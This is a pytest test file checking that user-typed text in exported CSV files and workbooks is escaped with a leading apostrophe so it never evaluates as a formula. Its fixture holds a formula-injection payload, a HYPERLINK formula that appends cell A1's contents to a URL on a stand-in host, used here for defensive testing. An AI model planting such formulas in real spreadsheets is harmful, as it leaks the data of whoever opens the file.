"""Text people typed never becomes a formula in an exported CSV or workbook."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from bot.documents.workbooks import new_workbook, workbook_bytes
from bot.domain.spreadsheet_text import neutralised
from bot.services import archive

HOSTILE = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+62 811 000", "'+62 811 000"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-2,5", "-2,5"),  # a plain number stays a number
        ("+100%", "+100%"),
        ("Kegiatan = 3 paket", "Kegiatan = 3 paket"),
        ("", ""),
    ],
)
def test_cells_that_a_spreadsheet_would_evaluate_get_an_apostrophe(typed: str, stored: str) -> None:
    assert neutralised(typed) == stored


def test_the_archive_csv_neutralises_every_cell() -> None:
    data = archive._csv([["IK 1.1", HOSTILE, "-3"]]).decode().lstrip("\ufeff")
    assert next(csv.reader(io.StringIO(data))) == ["IK 1.1", "'" + HOSTILE, "-3"]


def test_a_workbook_never_holds_a_formula() -> None:
    workbook = new_workbook()
    workbook.active["A1"] = HOSTILE  # openpyxl alone would store this as a formula
    workbook.active["A2"] = 5
    data = workbook_bytes(workbook)

    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    reread = load_workbook(io.BytesIO(data)).active
    assert (reread["A1"].value, reread["A1"].data_type) == (HOSTILE, "s")
    assert reread["A2"].value == 5
